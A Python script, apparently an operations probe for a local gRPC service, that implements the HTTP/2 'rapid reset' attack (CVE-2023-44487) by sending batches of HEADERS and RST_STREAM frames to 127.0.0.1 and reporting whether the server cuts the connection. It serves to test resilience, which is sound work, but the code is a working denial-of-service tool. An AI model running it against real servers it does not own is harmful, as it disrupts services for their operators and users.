#!/usr/bin/env python3
"""An HTTP/2 "rapid reset" client (CVE-2023-44487), for ops/probe_grpc_rapid_reset.sh.

Opens one cleartext HTTP/2 connection to 127.0.0.1:PORT and, without any
credentials, sends STREAMS pairs of HEADERS (a gRPC call to PATH) and
RST_STREAM(CANCEL), 200 pairs per write, as fast as the socket takes them.
Prints one line: pairs sent, seconds, pairs/s, whether the server closed the
connection (and after how many pairs).

    ops/http2_rapid_reset.py PORT STREAMS [PATH]
"""
import socket
import struct
import sys
import threading
import time


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):  # HPACK literal without indexing, new name, no Huffman
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def main():
    port, streams = int(sys.argv[1]), int(sys.argv[2])
    path = sys.argv[3] if len(sys.argv) > 3 else "/lifelong.v1.LearningRecordService/ListStatements"
    headers = (literal(":method", "POST") + literal(":scheme", "http") + literal(":path", path) +
               literal(":authority", "records") + literal("content-type", "application/grpc") +
               literal("te", "trailers"))
    sock = socket.create_connection(("127.0.0.1", port))
    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
    closed = threading.Event()

    def drain():
        while True:
            try:
                if not sock.recv(65536):
                    break
            except OSError:
                break
        closed.set()

    threading.Thread(target=drain, daemon=True).start()
    start, sent, batch, stream = time.time(), 0, [], 1
    while sent < streams and not closed.is_set():
        batch.append(frame(1, 4, stream, headers) + frame(3, 0, stream, struct.pack(">I", 8)))
        stream += 2
        if len(batch) == 200 or sent + len(batch) == streams:
            try:
                sock.sendall(b"".join(batch))
            except OSError:
                break
            sent += len(batch)
            batch = []
    seconds = time.time() - start
    print("sent %d HEADERS+RST_STREAM pairs in %.2f s (%.0f/s); closed by the server: %s" %
          (sent, seconds, sent / max(seconds, 1e-9), "yes" if closed.is_set() else "no"))
    sock.close()


if __name__ == "__main__":
    main()
